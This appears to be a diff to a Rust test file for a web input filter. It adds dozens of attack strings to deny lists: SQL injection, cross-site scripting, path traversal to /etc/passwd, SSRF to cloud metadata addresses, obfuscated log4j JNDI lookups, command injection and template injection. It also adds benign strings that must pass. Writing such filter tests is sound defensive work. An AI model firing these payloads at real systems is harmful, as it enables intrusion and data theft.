@@ -49,6 +49,23 @@ fn assert_denied(values: &[&str]) {
 
 /// SQL injection: comment and case games, dialect operators, blind and error-based forms, subqueries.
 const SQLI: &[&str] = &[
+    r#"1;COPY (SELECT '') TO PROGRAM 'id'--"#,
+    r#"1';exec('sel'+'ect 1')--"#,
+    r#"1' AND 1=UTL_HTTP.REQUEST('http://x.example/')--"#,
+    r#"1' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--"#,
+    r#"1';ATTACH DATABASE '/var/www/x.php' AS x;--"#,
+    r#"1' AND load_extension('x')--"#,
+    r#"$$; DROP TABLE users; $$"#,
+    r#"1' AND 1=(SELECT 1 FROM pg_sleep(5))--"#,
+    r#"1 AND 1=1::int"#,
+    r#"1' UNION SELECT NULL FROM DUAL--"#,
+    r#"1' || (SELECT chr(65)||chr(66)) ||'"#,
+    r#"1' and (select count(*) from all_users)>0--"#,
+    r#"1' WAITFOR DELAY '0:0:5'--"#,
+    r#"1)) OR ((1=1"#,
+    r#"admin' AND '1'='1' /*"#,
+    r#"1' AND MID(VERSION(),1,1)='5'--"#,
+    r#"1' PROCEDURE ANALYSE()--"#,
     r#"1 UNION/*&test=1*/SELECT/*&pwn=2*/1,2--"#,
     r#"1%23%0aUNION%23%0aSELECT%201,2"#,
     r#"1 /*!12345UNION*/ /*!12345SELECT*/ 1--"#,
@@ -121,6 +138,20 @@ const SQLI: &[&str] = &[
 
 /// Cross-site scripting: handlers, URI schemes behind entities, broken tags, sinks named indirectly.
 const XSS: &[&str] = &[
+    r#"<svg><script href=data:,alert(1) />"#,
+    r#"" autofocus onfocus=alert(1) x=""#,
+    r#"' onmouseover='alert(1)"#,
+    r#"<svg/onload=self[`alert`](1)>"#,
+    r#"<img src=x onerror=window.onerror=alert;throw+1>"#,
+    r#"<iframe/src="data:text/html,<svg onload=alert(1)>">"#,
+    r#"<a href="javas&Tab;cript:alert(1)">x</a>"#,
+    r#"<x contenteditable onblur=alert(1)>lose focus!"#,
+    r#"<sCrIpT>alert(1)</ScRiPt>"#,
+    r#"%3Cscript%3Ealert(1)%3C%2Fscript%3E"#,
+    r#"&lt;script&gt;alert(1)&lt;/script&gt;"#,
+    r#"\x3cscript\x3ealert(1)\x3c/script\x3e"#,
+    r#"\u003cscript\u003ealert(1)\u003c/script\u003e"#,
+    r#"<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>"#,
     r#"<img src=1 href=1 onerror="javascript:alert(1)"></img>"#,
     r#"<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>"#,
     r#"<math><a xlink:href="javascript:alert(1)">x</a></math>"#,
@@ -179,6 +210,11 @@ const XSS: &[&str] = &[
 
 /// Path traversal and local files: encodings of the dot and the slash, Windows paths, well-known files.
 const LFI: &[&str] = &[
+    r#"..%u2216..%u2216etc%u2216passwd"#,
+    r#"%uff0e%uff0e/%uff0e%uff0e/etc/passwd"#,
+    r#"..%e0%80%ae/etc/passwd"#,
+    r#"/..%00/..%00/etc/passwd"#,
+    r#"....//....//windows/win.ini"#,
     r#"....//....//....//etc/passwd"#,
     r#"..%252f..%252f..%252fetc%252fpasswd"#,
     r#"%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"#,
@@ -211,6 +247,16 @@ const LFI: &[&str] = &[
 
 /// Server-side request forgery: every spelling of an internal or metadata address, internal schemes.
 const SSRF: &[&str] = &[
+    r#"http://localtest.me/"#,
+    r#"http://127.0.0.1.sslip.io/"#,
+    r#"http://[::]:80/"#,
+    r#"http://[0000::1]/"#,
+    r#"http://0x7f000001/"#,
+    r#"http://2130706433/"#,
+    r#"http://127.0.0.1:80@x.example/"#,
+    r#"http://x.example\@127.0.0.1/"#,
+    r#"http://metadata.azure.com/metadata/instance"#,
+    r#"http://169.254.169.254%2F@x.example/"#,
     r#"http://169.254.169.254/latest/meta-data/"#,
     r#"http://[::ffff:169.254.169.254]/"#,
     r#"http://2852039166/latest/meta-data/"#,
@@ -249,6 +295,10 @@ const SSRF: &[&str] = &[
 /// Java: log4j lookups, nested and encoded; deserialisation (with Ruby's, Python's
 /// and .NET's); OGNL and SpEL; class-loader parameters.
 const JAVA: &[&str] = &[
+    r#"${jndi:${lower:r}mi://x/a}"#,
+    r#"${jndi:ldap://127.0.0.1#.x.example:1389/a}"#,
+    r#"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}"#,
+    r#"${T(java.lang.System).getenv()}"#,
     r#"--- !ruby/object:Gem::Installer"#,
     r#"{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}"#,
     r#"AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0uV2luZG93cy5Gb3Jtcw=="#,
@@ -278,6 +328,14 @@ const JAVA: &[&str] = &[
 
 /// Command injection: separators, quoting and expansion tricks, globs, encodings, Windows.
 const CMDI: &[&str] = &[
+    r#";system('id')"#,
+    r#"|| ping -c 10 127.0.0.1 ||"#,
+    r#"`sleep 5`"#,
+    r#"$(sleep 5)"#,
+    r#";sleep${IFS}5"#,
+    r#"%0Asleep%205"#,
+    r#"& timeout /t 5"#,
+    r#"| ping -n 5 127.0.0.1"#,
     r#";ls -la"#,
     r#"$(id)"#,
     r#"`id`"#,
@@ -340,6 +398,11 @@ const PHP: &[&str] = &[
 
 /// NoSQL operators, shellshock, CRLF injection, XXE, template injection, prototype pollution.
 const OTHER: &[&str] = &[
+    r#"*{7*7}"#,
+    r#"@(1+2)"#,
+    r#"{{7*'7'}}"#,
+    r#"{% import os %}{{ os.system('id') }}"#,
+    r#"<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}"#,
     r#"<!--#include virtual="/etc/passwd"-->"#,
     r#"<!--#include file="../../web.config"-->"#,
     r#"<!--#echo var="DOCUMENT_ROOT"-->"#,
@@ -407,6 +470,12 @@ const ORDINARY: &[&str] = &[
     "Congratulations!\nTo: Sarah\nFrom: Dad",
     "Dear all,\nFrom: the office\nSubject: party",
     "Price (USD)(VAT=20%)",
+    "mail me @(home) or at work",
+    "please attach the file; attach it again",
+    "timeout after 5 minutes & retry",
+    "ftp://user:pass@ftp.example.com/pub/",
+    "see {{ page.title }} for 2-3 days",
+    "*{font-size: 12px}",
     "Our app uses System.Diagnostics.Process to launch tools",
     "Skills: Java; Python; Ruby; Go",
     "Languages: C | Perl | PHP",
